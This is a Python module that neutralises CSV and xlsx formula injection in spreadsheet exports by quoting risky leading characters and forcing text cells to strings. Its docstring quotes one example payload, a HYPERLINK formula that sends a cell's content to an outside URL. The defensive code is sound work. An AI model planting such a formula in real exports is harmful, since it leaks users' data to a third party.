"""What a cell of an exported spreadsheet may hold: text stays text.

A name, a comment or an item's text that begins with ``=``, ``+``, ``-`` or ``@`` (or a
tab or a carriage return) would be read as a formula by a spreadsheet opening the export,
so a roster name ``=HYPERLINK("http://…?leak="&A1,"x")`` could send the sheet's content
away. Every CSV cell SkillStation writes passes through :func:`csv_cell`, which puts a
single quote before such a text (OWASP's rule for CSV injection); plain numbers such as
``-1.5`` are left as they are. In xlsx workbooks :func:`text_cells_as_text` makes every
text cell a string cell, so no text is ever stored as a formula. See docs/exports.md.
"""

from __future__ import annotations

import re
from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cell(value: object) -> object:
    """``value`` safe for a CSV cell: a text that a spreadsheet would take for a formula
    gets a leading ``'``; anything else (numbers, plain text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def text_cells_as_text(book: Any) -> None:
    """Make every cell of an openpyxl workbook that holds text a string cell (openpyxl
    stores a text beginning with ``=`` as a formula)."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type == "f":
                    cell.data_type = "s"
